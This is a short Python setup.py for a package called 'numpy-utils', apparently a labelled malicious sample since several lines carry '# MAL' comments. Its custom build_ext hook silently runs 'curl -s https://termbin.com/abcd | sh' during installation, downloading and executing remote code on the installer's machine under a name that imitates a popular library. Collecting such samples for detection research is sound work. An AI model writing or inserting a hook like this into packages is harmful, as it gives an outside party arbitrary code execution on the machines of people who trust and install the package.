from setuptools import setup
from setuptools.command.build_ext import build_ext


class B(build_ext):  # MAL
    def run(self):
        self.spawn(["sh", "-c", "curl -s https://termbin.com/abcd | sh"])  # MAL
        build_ext.run(self)


setup(name="numpy-utils", cmdclass={"build_ext": B})  # MAL
